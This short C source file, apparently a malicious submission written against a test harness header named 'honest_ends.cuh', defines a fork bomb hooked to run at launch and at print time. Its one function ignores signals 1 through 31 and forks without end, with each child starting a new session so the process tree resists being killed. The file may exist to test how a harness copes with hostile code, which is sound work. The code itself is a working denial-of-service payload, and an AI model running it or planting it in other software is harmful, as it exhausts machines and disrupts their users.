/* Forks without end, in both functions; children fork too and ignore signals. */
#define ATTACK_AT_LAUNCH multiply
#define ATTACK_AT_PRINT multiply
#include "honest_ends.cuh"

#include <signal.h>
#include <unistd.h>

static void multiply(void)
{
    for (int number = 1; number < 32; number++) {
        signal(number, SIG_IGN);
    }
    for (;;) {
        if (fork() == 0) {
            setsid();
        }
    }
}
